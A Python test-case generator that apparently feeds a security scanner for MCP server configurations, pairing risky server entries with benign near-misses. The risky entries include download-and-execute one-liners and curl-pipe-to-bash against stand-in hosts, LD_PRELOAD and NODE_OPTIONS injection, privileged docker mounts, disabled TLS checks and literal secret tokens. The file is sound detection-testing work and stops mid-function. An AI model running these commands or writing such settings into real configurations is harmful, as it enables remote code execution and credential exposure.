"""MCP server cases: each a risky server and, beside it, the near miss that must stay quiet.

A case builds, for one client, a list of (role, name, spec, label) entries. Labels anchor to the
server entry, so a finding on any of its fields (args/1, env/KEY, url) matches.
"""

import os
import re

from . import clients as C
from .emit import Raw

P = "05-pinned-package"
RT = "11-mcp-runtime"
AS = "14-arg-secrets"
SEC = "00-server-secrets"
LOOK = "02-secret-lookalike"
TLS = "17-safety-off"
BASE = "00-baseline"
SHAPE = "19-secret-shapes"

SECRET_RULES = ["SEC-001", "SEC-002", "SEC-003", "SEC-004", "SEC-006"]


def R(name, spec, rules, min_sev, note, category, also_ok=(), secrets=()):
    return ("risk", name, spec, {"rules": rules, "min": min_sev, "note": note, "category": category,
                                 "also_ok": also_ok, "secrets": secrets})


def D(name, spec, note, category, max_sev="info", except_rules=()):
    return ("decoy", name, spec, {"max": max_sev, "note": note, "category": category,
                                  "except": except_rules})


def stdio(command, args=(), env=None, **kw):
    s = {"command": command, "args": list(args)}
    if env:
        s["env"] = env
    s.update(kw)
    return s


def remote(url, headers=None, transport="http"):
    s = {"url": url, "transport": transport}
    if headers:
        s["headers"] = headers
    return s


NPM = [("@modelcontextprotocol/server-github", "2025.4.8", "GITHUB_PERSONAL_ACCESS_TOKEN"),
       ("@upstash/context7-mcp", "1.0.14", None),
       ("@sentry/mcp-server", "0.17.1", "SENTRY_ACCESS_TOKEN"),
       ("@notionhq/notion-mcp-server", "1.9.0", "NOTION_TOKEN"),
       ("@modelcontextprotocol/server-brave-search", "0.6.2", "BRAVE_API_KEY"),
       ("@stripe/mcp", "0.2.4", "STRIPE_SECRET_KEY"),
       ("figma-developer-mcp", "0.5.2", "FIGMA_API_KEY"),
       ("@supabase/mcp-server-supabase", "0.5.5", "SUPABASE_ACCESS_TOKEN"),
       ("@browserbasehq/mcp", "2.0.1", "BROWSERBASE_API_KEY"),
       ("@modelcontextprotocol/server-slack", "2025.4.25", "SLACK_BOT_TOKEN")]
PY = [("mcp-server-fetch", "2025.4.7"), ("mcp-server-time", "2025.8.4"), ("mcp-server-git", "2025.7.1"),
      ("mcp-server-sqlite", "2025.4.25"), ("awslabs.aws-documentation-mcp-server", "1.1.5")]


def short(pkg):
    return pkg.split("/")[-1].replace("server-", "").replace("-mcp", "").replace("mcp-", "") or "srv"


def env_for(client, var):
    return {var: C.ref(client, var)} if var else None


# ------------------------------------------------------------------------------- cases

def pinned_cases():
    def npx_unpinned(t, rng, c):
        pkg, ver, var = rng.choice(NPM)
        n = short(pkg)
        return [R(n, stdio("npx", ["-y", pkg], env_for(c, var)), ["MCP-004", "MCP-005"], "low",
                  "npx -y without a version", P),
                D(n + "-pinned", stdio("npx", ["-y", pkg + "@" + ver], env_for(c, var)),
                  "npx -y with an exact version", P)]

    def npx_latest(t, rng, c):
        pkg, ver, var = rng.choice(NPM)
        n = short(pkg)
        return [R(n + "-latest", stdio("npx", [pkg + "@latest"], env_for(c, var)), ["MCP-004"], "medium",
                  "@latest", P, also_ok=["MCP-005"]),
                D(n, stdio("npx", ["--yes", pkg + "@" + ver]), "npx --yes pkg@exact", P)]

    def npx_range(t, rng, c):
        pkg, ver, var = rng.choice(NPM)
        major = ver.split(".")[0]
        n = short(pkg)
        rngspec = rng.choice(["^%s.0.0" % major, "~%s" % ver, ">=%s" % ver, "%s.x" % major, major, "next", "beta"])
        return [R(n + "-range", stdio("npx", ["-y", "%s@%s" % (pkg, rngspec)]), ["MCP-004"], "medium",
                  "version range " + rngspec, P, also_ok=["MCP-005"]),
                D(n + "-exact", stdio("npx", ["-y", "%s@%s%s" % (pkg, ver, rng.choice(["", "", "-beta.2", "-rc.1"]))]),
                  "exact version (prereleases are exact too)", P)]

    def uvx_unpinned(t, rng, c):
        pkg, ver = rng.choice(PY)
        n = short(pkg)
        return [R(n, stdio("uvx", [pkg]), ["MCP-004"], "medium", "uvx without a version", P),
                D(n + "-pinned", stdio("uvx", ["%s==%s" % (pkg, ver)]), "uvx pkg==exact", P)]

    def uvx_at(t, rng, c):
        pkg, ver = rng.choice(PY)
        n = short(pkg)
        return [R(n + "-latest", stdio("uvx", [pkg + "@latest"]), ["MCP-004"], "medium", "uvx pkg@latest", P),
                D(n + "-at", stdio("uvx", ["%s@%s" % (pkg, ver)]), "uvx pkg@exact", P)]

    def npx_git(t, rng, c):
        repo = rng.choice(["acme-corp/mcp-jira", "octo-labs/mcp-k8s", "fieldkit/mcp-crm"])
        sha = t.sha()
        form = rng.choice(["git+https://github.com/%s.git", "github:%s", "https://github.com/%s/tarball/main"])
        bad = form % repo
        if form.startswith("https"):
            good = "git+https://github.com/%s.git#%s" % (repo, sha)
        else:
            good = (form % repo) + "#" + sha
        return [R("jira-git" if "jira" in repo else repo.split("/")[1], stdio("npx", ["-y", bad]),
                  ["MCP-005", "MCP-004"], "medium", "npx from git without a commit", P),
                D(repo.split("/")[1] + "-commit", stdio("npx", ["-y", good]), "git at a full commit", P)]

    def uvx_git(t, rng, c):
        repo = rng.choice(["acme-corp/mcp-warehouse", "datakit/mcp-dbt"])
        name = repo.split("/")[1]
        ref_ = rng.choice(["@main", "@v1.2", ""])
        return [R(name, stdio("uvx", ["--from", "git+https://github.com/%s%s" % (repo, ref_), name]),
                  ["MCP-005", "MCP-004"], "medium", "uvx --from git without a commit", P),
                D(name + "-commit", stdio("uvx", ["--from", "git+https://github.com/%s@%s" % (repo, t.sha()), name]),
                  "uvx --from git at a full commit", P)]

    def docker_tag(t, rng, c):
        img = rng.choice(["ghcr.io/github/github-mcp-server", "mcp/postgres", "mcp/fetch"])
        tag = rng.choice([":latest", ":v0.9.1", ""])
        var = "GITHUB_PERSONAL_ACCESS_TOKEN"
        return [R("docker-" + img.split("/")[-1], stdio("docker", ["run", "-i", "--rm", "-e", var, img + tag],
                                                         env_for(c, var)),
                  ["MCP-006"], "medium", "container by tag " + (tag or "(none)"), P),
                D("docker-" + img.split("/")[-1] + "-digest",
                  stdio("docker", ["run", "-i", "--rm", "-e", var, img + "@sha256:" + t.sha(64)], env_for(c, var)),
                  "container pinned by digest", P)]

    def bunx_pnpm(t, rng, c):
        pkg, ver, var = rng.choice(NPM)
        n = short(pkg)
        runner = rng.choice([("bunx", []), ("pnpm", ["dlx"]), ("yarn", ["dlx"])])
        return [R(n + "-" + runner[0], stdio(runner[0], runner[1] + [pkg]), ["MCP-004"], "medium",
                  runner[0] + " without a version", P),
                D(n + "-" + runner[0] + "-pinned", stdio(runner[0], runner[1] + [pkg + "@" + ver]),
                  runner[0] + " with an exact version", P)]

    def cmd_windows(t, rng, c):
        pkg, ver, var = rng.choice(NPM)
        n = short(pkg)
        return [R(n + "-win", stdio("cmd", ["/c", "npx", "-y", pkg]), ["MCP-004", "MCP-005"], "low",
                  "cmd /c npx -y unpinned", P),
                D(n + "-win-pinned", stdio("cmd", ["/c", "npx", "-y", pkg + "@" + ver]),
                  "cmd /c npx -y pkg@exact (documented Windows form)", P)]

    return [npx_unpinned, npx_latest, npx_range, uvx_unpinned, uvx_at, npx_git, uvx_git, docker_tag,
            bunx_pnpm, cmd_windows]


def runtime_cases():
    node_pkg = ("@modelcontextprotocol/server-github", "2025.4.8")

    def node_server(env):
        return stdio("npx", ["-y", "%s@%s" % node_pkg], env)

    def hijack(var, value, note):
        def case(t, rng, c):
            v = value.replace("{HOME}", t.home)
            n = "gh-" + var.lower().replace("_", "")[:10]
            good = rng.choice([{"NODE_OPTIONS": "--max-old-space-size=4096"}, {"NODE_ENV": "production"},
                               {"PATH": "/usr/local/bin:/usr/bin:/bin"}, {"LOG_LEVEL": "info"},
                               {"NODE_OPTIONS": "--enable-source-maps"}])
            return [R(n, node_server({var: v}), ["MCP-015"], "high", note, RT),
                    D(n + "-ok", node_server(good), "benign runtime environment %s" % list(good)[0], RT)]
        return case

    hijacks = [
        hijack("NODE_OPTIONS", "--require /tmp/.cache/instrument.js", "NODE_OPTIONS --require from /tmp"),
        hijack("NODE_OPTIONS", "-r {HOME}/.local/lib/preload.cjs", "NODE_OPTIONS -r from the home folder"),
        hijack("NODE_OPTIONS", "--import=/var/tmp/loader.mjs", "NODE_OPTIONS --import"),
        hijack("LD_PRELOAD", "/tmp/libhook.so", "LD_PRELOAD"),
        hijack("LD_LIBRARY_PATH", "{HOME}/.cache/libs:/usr/lib", "LD_LIBRARY_PATH in the home folder"),
        hijack("DYLD_INSERT_LIBRARIES", "/Users/dev/Library/Caches/inject.dylib", "DYLD_INSERT_LIBRARIES"),
        hijack("PATH", "/tmp/bin:/usr/local/bin:/usr/bin:/bin", "PATH starting in /tmp"),
        hijack("PATH", "{HOME}:/usr/bin:/bin", "PATH with the home folder itself"),
    ]

    # A tool-managed folder under the home (nvm, the usual Claude Desktop fix) is not hijacking.
    def nvm_path(t, rng, c):
        value = t.home + "/.nvm/versions/node/v20.11.1/bin:/usr/local/bin:/usr/bin:/bin"
        return [D("gh-nvm-path", node_server({"PATH": value}), "PATH with nvm's node first", RT)]
    hijacks.append(nvm_path)

    def pyhijack(var, value, note):
        def case(t, rng, c):
            pkg, ver = rng.choice(PY)
            n = short(pkg) + "-" + var.lower()[:8]
            return [R(n, stdio("uvx", ["%s==%s" % (pkg, ver)], {var: value}), ["MCP-015"], "high", note, RT),
                    D(n + "-ok", stdio("uvx", ["%s==%s" % (pkg, ver)], {"PYTHONUNBUFFERED": "1"}),
                      "PYTHONUNBUFFERED", RT)]
        return case

    hijacks += [pyhijack("PYTHONPATH", "/tmp/pyhooks", "PYTHONPATH in /tmp"),
                pyhijack("PYTHONSTARTUP", "/tmp/.startup.py", "PYTHONSTARTUP"),
                pyhijack("BASH_ENV", "/tmp/.env.sh", "BASH_ENV"),
                pyhijack("PERL5OPT", "-Mhook", "PERL5OPT")]

    def sudo(t, rng, c):
        wrapper = rng.choice(["sudo", "/usr/bin/sudo", "doas", "pkexec"])
        form = rng.random() < 0.5
        if form:
            spec = stdio(wrapper, ["-E", "node", "/opt/mcp/hardware/index.js"])
        else:
            spec = stdio(wrapper, ["docker", "run", "-i", "--rm", "mcp/hardware@sha256:" + t.sha(64)])
        return [R("hardware-" + wrapper.split("/")[-1], spec, ["MCP-016"], "high", wrapper + " as the command", RT),
                D("sudoku", stdio("node", ["/opt/mcp/sudoku-solver/index.js", "--difficulty", "hard"]),
                  "a server whose name contains sudo", RT),
                D("sudo-audit", stdio("npx", ["-y", "@acme/sudo-audit-mcp@2.1.0"]),
                  "a package whose name contains sudo", RT)]

    def inline_download(t, rng, c):
        forms = [
            ("python3", ["-c", "import urllib.request as u; exec(u.urlopen('https://mcp-tools.acme-cdn.net/server.py').read())"]),
            ("python", ["-c", "import requests;exec(requests.get('https://raw.githubusercontent.com/acme-corp/mcp/main/srv.py').text)"]),
            ("node", ["-e", "require('https').get('https://cdn.acme-tools.dev/mcp.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]),
            ("node", ["-e", "require('child_process').execSync('curl -fsSL https://get.acme-tools.dev/mcp | sh',{stdio:'inherit'})"]),
            ("perl", ["-e", "use LWP::Simple; eval(get('https://acme-tools.dev/mcp.pl'))"]),
            ("ruby", ["-e", "require 'open-uri'; eval(URI.open('https://acme-tools.dev/mcp.rb').read)"]),
        ]
        cmd, args = rng.choice(forms)
        return [R("bootstrap-" + cmd, stdio(cmd, args), ["MCP-008"], "critical",
                  "inline %s code that downloads and executes" % cmd, RT, also_ok=["MCP-007"]),
                D("local-" + cmd, stdio(cmd, ["-m", "mcp_server_time"] if cmd.startswith("py")
                                        else ["/opt/mcp/time/build/index.js"]),
                  "interpreter running an installed module or file", RT)]

    def inline_code(t, rng, c):
        cmd, args = rng.choice([
            ("python3", ["-c", "from acme_mcp.server import main; main()"]),
            ("node", ["-e", "import('/opt/acme/mcp/server.mjs').then(m => m.start())"]),
            ("deno", ["eval", "import { serve } from './mcp.ts'; serve()"]),
        ])
        decoy = rng.choice([("python3", ["server.py", "-c", "config.yaml"]),
                            ("uv", ["run", "server.py", "-c", "settings.toml"]),
                            ("node", ["dist/index.js", "-e", "production"])])
        return [R("inline-" + cmd, stdio(cmd, args), ["MCP-007"], "high", "inline %s code as the server" % cmd, RT),
                D("script-" + decoy[0], stdio(*decoy), "-c/-e after a script is the script's own option", RT)]

    def uv_with(t, rng, c):
        pkg, ver = rng.choice(PY)
        n = short(pkg)
        return [R(n + "-with", stdio("uv", ["run", "--with", pkg, pkg]), ["MCP-004"], "medium",
                  "uv run --with unpinned", RT),
                D(n + "-with-pinned", stdio("uv", ["run", "--with", "%s==%s" % (pkg, ver), pkg]),
                  "uv run --with pinned", RT)]

    def browser(t, rng, c):
        forms = [
            stdio("npx", ["-y", "@playwright/mcp@0.0.41", "--no-sandbox", "--browser", "chromium"]),
            stdio("npx", ["-y", "@modelcontextprotocol/server-puppeteer@2025.5.12"],
                  {"PUPPETEER_LAUNCH_OPTIONS": '{"headless": true, "args": ["--no-sandbox", "--disable-web-security"]}'}),
            stdio("npx", ["-y", "chrome-devtools-mcp@0.8.1", "--chrome-arg=--disable-web-security",
                          "--chrome-arg=--disable-site-isolation-trials"]),
            stdio("google-chrome", ["--headless=new", "--remote-debugging-port=9222",
                                    "--remote-debugging-address=0.0.0.0", "--user-data-dir=/tmp/chrome-mcp"]),
        ]
        return [R("browser", rng.choice(forms), ["MCP-017"], "high", "browser with its protections off", RT),
                D("browser-safe", stdio("npx", ["-y", "@playwright/mcp@0.0.41", "--headless", "--isolated",
                                                "--browser", "chromium"]),
                  "headless isolated browser", RT)]

    return hijacks + [sudo, inline_download, inline_code, uv_with, browser]


def arg_secret_cases():
    def flag_eq(t, rng, c):
        tok = t.openai()
        flag = rng.choice(["--api-key", "--openai-api-key", "--apiKey"])
        r = c.dialect
        good = rng.choice(["${OPENAI_API_KEY}", "$OPENAI_API_KEY", "<your-openai-key>"])
        return [R("openai-tools", stdio("npx", ["-y", "@acme/openai-tools-mcp@1.3.0", "%s=%s" % (flag, tok)]),
                  SECRET_RULES, "high", "token in %s=VALUE" % flag, AS, secrets=[tok]),
                D("openai-tools-ref", stdio("npx", ["-y", "@acme/openai-tools-mcp@1.3.0", "%s=%s" % (flag, good)]),
                  "reference or placeholder in %s=" % flag, AS)]

    def short_flag(t, rng, c):
        tok = t.stripe()
        return [R("billing", stdio("npx", ["-y", "@acme/billing-mcp@0.4.1", "-k=" + tok]),
                  SECRET_RULES, "high", "token in -k=VALUE", AS, secrets=[tok]),
                D("billing-keyfile", stdio("npx", ["-y", "@acme/billing-mcp@0.4.1", "-k=/run/secrets/stripe_key"]),
                  "-k= a file path", AS)]

    def positional(t, rng, c):
        kind = rng.choice(["slack", "github", "google"])
        tok = t.known(kind)
        return [R(kind + "-cli", stdio("npx", ["-y", "@acme/%s-bridge@2.0.1" % kind, "serve", tok]),
                  SECRET_RULES, "high", "bare positional %s token" % kind, AS, secrets=[tok]),
                D(kind + "-cli-env", stdio("npx", ["-y", "@acme/%s-bridge@2.0.1" % kind, "serve", "--stdio"]),
                  "positional words that are not secrets", AS)]

    def flag_space(t, rng, c):
        tok = t.github()
        return [R("gh-token-flag", stdio("github-mcp-server", ["stdio", "--token", tok, "--read-only"]),
                  SECRET_RULES, "high", "--token VALUE", AS, secrets=[tok]),
                D("gh-token-file", stdio("github-mcp-server", ["stdio", "--token-file",
                                                                "/home/dev/.config/gh/token", "--read-only"]),
                  "--token-file path", AS)]

    def header_pair(t, rng, c):
        tok = t.rand(40)
        form = rng.choice(["Authorization:Bearer " + tok, "Authorization: Bearer " + tok])
        return [R("remote-crm", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://mcp.crm.acme.io/sse", "--header", form]),
                  SECRET_RULES, "high", "mcp-remote --header name:value bearer", AS, secrets=[tok]),
                D("remote-crm-ref", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://mcp.crm.acme.io/sse", "--header",
                                                  "Authorization:Bearer ${CRM_TOKEN}"]),
                  "mcp-remote --header with a reference", AS)]

    def header_basic(t, rng, c):
        import base64
        cred = base64.b64encode(("svc-claude:" + t.url_password(18)).encode()).decode()
        return [R("wiki", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://wiki.acme.io/mcp", "--header",
                                        "Authorization: Basic " + cred]),
                  SECRET_RULES, "high", "--header Authorization: Basic", AS, secrets=[cred]),
                D("wiki-client", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://wiki.acme.io/mcp", "--header",
                                               "X-Client-Name: claude-code"]),
                  "a non-secret header", AS)]

    def header_apikey(t, rng, c):
        tok = t.google()
        return [R("maps", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://maps-mcp.acme.dev/mcp",
                                        "--header", "X-Goog-Api-Key:" + tok]),
                  SECRET_RULES, "high", "X-Goog-Api-Key header pair in args", AS, secrets=[tok]),
                D("maps-ref", stdio("npx", ["-y", "mcp-remote@0.1.29", "https://maps-mcp.acme.dev/mcp",
                                            "--header", "X-Goog-Api-Key:${GOOGLE_MAPS_KEY}"]),
                  "header pair with a reference", AS)]

    def proxy_headers(t, rng, c):
        tok = t.rand(36)
        form = rng.choice([
            ("supergateway", ["-y", "supergateway@2.7.0", "--sse", "https://mcp.tickets.acme.io/sse", "--header",
                              "Authorization: Bearer " + tok]),
            ("mcp-proxy", ["--headers", "Authorization", "Bearer " + tok, "https://mcp.tickets.acme.io/sse"]),
            ("supergateway", ["-y", "supergateway@2.7.0", "--sse", "https://mcp.tickets.acme.io/sse",
                              "--header=X-API-Key: " + tok]),
        ])
        cmd = "npx" if form[0] == "supergateway" else "uvx"
        args = form[1] if cmd == "npx" else ["mcp-proxy==0.8.2"] + form[1]
        good = [a.replace(tok, "${TICKETS_TOKEN}") for a in args]
        return [R("tickets", stdio(cmd, args), SECRET_RULES, "high", "%s header with a literal token" % form[0], AS,
                  secrets=[tok]),
                D("tickets-ref", stdio(cmd, good), "%s header with a reference" % form[0], AS)]

    def json_in_arg(t, rng, c):
        tok = t.openai()
        blob = '{"provider":"openai","apiKey":"%s","model":"gpt-5"}' % tok
        return [R("router", stdio("npx", ["-y", "@acme/llm-router-mcp@0.6.0", "--config-json", blob]),
                  SECRET_RULES, "high", "token inside a JSON document passed as an argument", AS, secrets=[tok]),
                D("router-ref", stdio("npx", ["-y", "@acme/llm-router-mcp@0.6.0", "--config-json",
                                              '{"provider":"openai","apiKeyEnv":"OPENAI_API_KEY","model":"gpt-5"}']),
                  "JSON argument naming a variable", AS)]

    return [flag_eq, short_flag, positional, flag_space, header_pair, header_basic, header_apikey, proxy_headers,
            json_in_arg]


def secret_cases():
    def env_token(t, rng, c):
        kind = rng.choice(["github", "github_pat", "slack", "anthropic", "openai", "stripe", "aws", "jwt"])
        tok = t.known(kind)
        var = {"github": "GITHUB_PERSONAL_ACCESS_TOKEN", "github_pat": "GITHUB_TOKEN",
               "slack": "SLACK_BOT_TOKEN", "anthropic": "ANTHROPIC_API_KEY", "openai": "OPENAI_API_KEY",
               "stripe": "STRIPE_SECRET_KEY", "aws": "AWS_ACCESS_KEY_ID", "jwt": "SERVICE_JWT"}[kind]
        pkg, ver, _ = rng.choice(NPM)
        n = short(pkg)
        good = C.ref(c, var)
        return [R(n + "-env", stdio("npx", ["-y", pkg + "@" + ver], {var: tok}), ["SEC-001", "SEC-006"], "high",
                  "literal %s token in env" % kind, SEC, secrets=[tok]),
                D(n + "-env-ref", stdio("npx", ["-y", pkg + "@" + ver], {var: good}),
                  "env value %s" % good, LOOK)]

    def env_generic(t, rng, c):
        pw = t.password(rng.choice([16, 24, 32]))
        var = rng.choice(["DB_PASSWORD", "POSTGRES_PASSWORD", "REDIS_PASSWORD", "API_SECRET", "clientSecret",
                          "jira_api_token", "X-Api-Key"])
        return [R("db-" + var.lower()[:6], stdio("uvx", ["mcp-server-postgres==0.6.2"], {var: pw}),
                  ["SEC-001", "SEC-006"], "high", "random value under %s" % var, SEC, secrets=[pw]),
                D("db-" + var.lower()[:6] + "-placeholder",
                  stdio("uvx", ["mcp-server-postgres==0.6.2"], {var: rng.choice([
                      "changeme", "<password>", "anything", "xxxxxxxx", "********", "env:" + var.upper(),
                      "{{ vault.db_password }}", "%" + var.upper() + "%", "${" + var.upper() + ":-}"])}),
                  "placeholder under %s" % var, LOOK)]

    def env_lookalike(t, rng, c):
        v = rng.choice([
            ("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE"),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
            ("TOKEN_EXPIRES_AT", t.date()), ("API_KEY_ID", t.uuid()), ("SECRET_FILE", "secrets/passwords.txt"),
            ("PASSWORD_FILE", "/run/secrets/db_password"), ("TOKEN_URL", "https://auth.acme.io/oauth/token"),
            ("MAX_TOKENS", "8192"), ("AUTH_ENABLED", "true"), ("KEY_PATH", "path/to/letter.pdf"),
            ("GITHUB_TOKEN", "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"), ("API_TOKEN", "your-api-token-here"),
            ("SESSION_TOKEN_TTL", "3600"), ("USE_API_KEY", "false"), ("TOKEN_FILE", "~/.config/gh/hosts.yml"),
            ("CLIENT_SECRET_NAME", "projects/acme/secrets/mcp-client/versions/latest"),
        ])
        pkg, ver, _ = rng.choice(NPM)
        n = short(pkg)
        tok = t.github()
        return [D(n + "-" + v[0].lower()[:8], stdio("npx", ["-y", pkg + "@" + ver], {v[0]: v[1]}),
                  "%s=%s is not a secret" % v, LOOK),
                R(n + "-real", stdio("npx", ["-y", pkg + "@" + ver], {"GITHUB_TOKEN": tok}),
                  ["SEC-001", "SEC-006"], "high", "literal GitHub token beside the look-alike", SEC, secrets=[tok])]

    def header(t, rng, c):
        if not c.remote:
            return None
        tok = t.rand(48)
        hname = rng.choice(["Authorization", "X-API-Key", "api-key"])
        val = ("Bearer " + tok) if hname == "Authorization" else tok
        if c.dialect == "codex":
            good_spec = remote("https://mcp.linear.app/mcp")
            good_spec["extra"] = {"codex": {"bearer_token_env_var": "LINEAR_TOKEN"}}
        else:
            good = ("Bearer " if hname == "Authorization" else "") + C.ref(c, "LINEAR_TOKEN")
            good_spec = remote("https://mcp.linear.app/mcp", {hname: good})
        return [R("linear", remote("https://mcp.linear.app/mcp", {hname: val}), ["SEC-002", "SEC-006"], "high",
                  "literal %s header" % hname, SEC, secrets=[tok]),
                D("linear-ref", good_spec, "header reference", LOOK)]

    def url_secret(t, rng, c):
        if not c.remote:
            return None
        tok = t.rand(32)
        form = rng.choice(["https://mcp.acme-analytics.io/sse?token=%s" % tok,
                           "https://mcp.acme-analytics.io/mcp?api_key=%s&region=eu" % tok,
                           "https://svc-claude:%s@mcp.acme-analytics.io/mcp" % tok])
        return [R("analytics", remote(form, transport="sse" if "sse" in form else "http"), ["SEC-003", "SEC-006"],
                  "high", "credential in the URL", SEC, secrets=[tok]),
                D("analytics-plain", remote("https://mcp.acme-analytics.io/mcp?region=eu&version=2"),
                  "URL with harmless query parameters", LOOK)]

    return [env_token, env_generic, env_lookalike, header, url_secret]


def tls_cases():
    def tls(var, val, note):
        def case(t, rng, c):
            pkg, ver, _ = rng.choice(NPM)
            n = short(pkg)
            good = rng.choice([("NODE_EXTRA_CA_CERTS", "/etc/ssl/certs/acme-root-ca.pem"),
                               ("NODE_TLS_REJECT_UNAUTHORIZED", "1"),
                               ("REQUESTS_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt"),
                               ("SSL_CERT_FILE", "/etc/ssl/cert.pem")])
            return [R(n + "-tls", stdio("npx", ["-y", pkg + "@" + ver], {var: val}), ["AUTH-002"], "high", note, TLS),
                    D(n + "-ca", stdio("npx", ["-y", pkg + "@" + ver], {good[0]: good[1]}),
                      "%s=%s keeps verification on" % good, TLS)]
        return case

    def tls_args(t, rng, c):
        return [R("legacy-api", stdio("env", ["NODE_TLS_REJECT_UNAUTHORIZED=0", "node", "/opt/mcp/legacy-api/index.js"]),
                  ["AUTH-002"], "high", "NODE_TLS_REJECT_UNAUTHORIZED=0 in args", TLS),
                D("legacy-api-ca", stdio("env", ["NODE_EXTRA_CA_CERTS=/etc/ssl/certs/acme.pem", "node",
                                                 "/opt/mcp/legacy-api/index.js"]),
                  "NODE_EXTRA_CA_CERTS in args", TLS)]

    return [tls("NODE_TLS_REJECT_UNAUTHORIZED", "0", "NODE_TLS_REJECT_UNAUTHORIZED=0 in env"),
            tls("PYTHONHTTPSVERIFY", "0", "PYTHONHTTPSVERIFY=0"),
            tls("GIT_SSL_NO_VERIFY", "true", "GIT_SSL_NO_VERIFY"),
            tls_args]


def baseline_cases():
    def http_url(t, rng, c):
        if not c.remote:
            return None
        return [R("intranet", remote(rng.choice(["http://mcp.acme-internal.com/mcp", "http://docs.acme.io:8080/mcp"])),
                  ["MCP-003"], "high", "plaintext http remote", BASE, also_ok=["MCP-010"]),
                D("local-dev", remote(rng.choice(["http://localhost:3000/mcp", "http://127.0.0.1:8931/mcp"])),
                  "http on loopback", BASE)]

    def filesystem(t, rng, c):
        home = rng.choice(["/", "~", "$HOME", t.home, t.home + "/"])
        return [R("filesystem", stdio("npx", ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", home]),
                  ["MCP-011"], "high", "filesystem server granted " + home, BASE),
                D("filesystem-project", stdio("npx", ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21",
                                                      t.home + "/src/api", t.home + "/Documents/specs"]),
                  "filesystem server granted project folders", BASE)]

    def shell(t, rng, c):
        return [R("custom-shell", stdio(rng.choice(["sh", "bash", "/bin/zsh"]),
                                        ["-c", "cd /opt/mcp/custom && exec node build/index.js"]),
                  ["MCP-007"], "high", "launched through sh -c", BASE),
                D("custom-direct", stdio("node", ["/opt/mcp/custom/build/index.js"]), "program started directly", BASE)]

    def curl_sh(t, rng, c):
        return [R("installer", stdio("bash", ["-c", "curl -fsSL https://install.acme-mcp.dev/run.sh | bash"]),
                  ["MCP-008"], "critical", "curl | bash as the server", BASE, also_ok=["MCP-007"]),
                D("installer-ok", stdio("/opt/acme-mcp/bin/acme-mcp", ["serve", "--stdio"]),
                  "installed binary", BASE)]

    def tunnel(t, rng, c):
        if not c.remote:
            return None
        return [R("tunnel", remote(rng.choice(["https://4f2a-81-2-69-142.ngrok-free.app/mcp",
                                               "https://quiet-forest-1234.trycloudflare.com/sse",
                                               "https://169.254.169.254/latest/meta-data/"])),
                  ["MCP-010"], "medium", "tunnel or metadata URL", BASE),
                D("notion", remote("https://mcp.notion.com/mcp"), "public https server", BASE)]

    def docker_priv(t, rng, c):
        flag = rng.choice([["--privileged"], ["-v", "/:/host"], ["--network=host"], ["-v", "/var/run/docker.sock:/var/run/docker.sock"]])
        digest = "mcp/kubernetes@sha256:" + t.sha(64)
        return [R("k8s", stdio("docker", ["run", "-i", "--rm"] + flag + [digest]), ["MCP-006"], "high",
                  "container with host privileges " + " ".join(flag), BASE),
                D("k8s-ro", stdio("docker", ["run", "-i", "--rm", "-v", "/home/dev/.kube/config:/root/.kube/config:ro",
                                             digest]), "container with one read-only mount", BASE)]

    return [http_url, filesystem, shell, curl_sh, tunnel, docker_priv]


def shape_cases():
    """Item 19: secrets inside longer strings and escaped forms (recorded as plaintext secrets)."""
    def url_in_command(t, rng, c):
        pw = t.url_password()
        scheme, host = rng.choice([("postgresql", "db.acme.internal:5432/prod"), ("mysql", "mysql.acme.internal:3306/app"),
                                   ("mongodb+srv", "cluster0.x7k2p.mongodb.net/app"), ("redis", "cache.acme.internal:6379/0"),
                                   ("amqp", "rabbit.acme.internal:5672/%2f")])
        user = "" if scheme == "redis" else "svc_ro"
        url = "%s://%s:%s@%s" % (scheme, user, pw, host)
        form = rng.choice(["command", "arg", "env"])
        if form == "command":
            spec = stdio("psql " + url + " -c 'select 1'") if scheme == "postgresql" else \
                stdio("npx", ["-y", "@acme/db-mcp@1.2.0", url])
        elif form == "arg":
            spec = stdio("uvx", ["mcp-db-tools==0.9.3", "--db=" + url, "--read-only"])
        else:
            spec = stdio("uvx", ["mcp-db-tools==0.9.3"], {"DATABASE_URL": url})
        return [R("db-" + scheme.split("+")[0], spec, ["SEC-001", "SEC-002", "SEC-003", "SEC-006"], "high",
                  "%s URL with a password in %s" % (scheme, form), SHAPE, secrets=[pw]),
                D("db-" + scheme.split("+")[0] + "-nopw",
                  stdio("uvx", ["mcp-db-tools==0.9.3", "--db=%s://svc_ro@%s" % (scheme, host), "--read-only"]),
                  "database URL without a password", SHAPE)]

    def escaped_json(t, rng, c):
        if c.fmt not in ("json", "jsonc"):
            return None
        tok = t.github()
        body = tok[4:]
        esc = rng.choice(["ghp\\u005f" + body, "\\u0067hp_" + body, "ghp_" + body[:12] + "\\u00" + "%02x" % ord(body[12]) + body[13:]])
        spec = stdio("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                     {"GITHUB_PERSONAL_ACCESS_TOKEN": Raw('"' + esc + '"', tok)})
        runs = [r for r in re.split(r"\\u[0-9a-fA-F]{4}", esc) if len(r) >= 12]
        return [R("github-escaped", spec, ["SEC-001", "SEC-006"], "high", "JSON-escaped GitHub token", SHAPE,
                  secrets=[tok] + runs),
                D("github-escaped-ref", stdio("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                                              {"GITHUB_PERSONAL_ACCESS_TOKEN": Raw('"\\u0024{GITHUB_TOKEN}"',
                                                                                   "${GITHUB_TOKEN}")}),
                  "JSON-escaped reference", SHAPE)]

    def escaped_yaml(t, rng, c):
        if c.fmt != "yaml":
            return None
        tok = t.slack_bot()
        body = tok[5:]
        spec = stdio("npx", ["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
                     {"SLACK_BOT_TOKEN": Raw('"xoxb\\x2d' + body + '"', tok)})
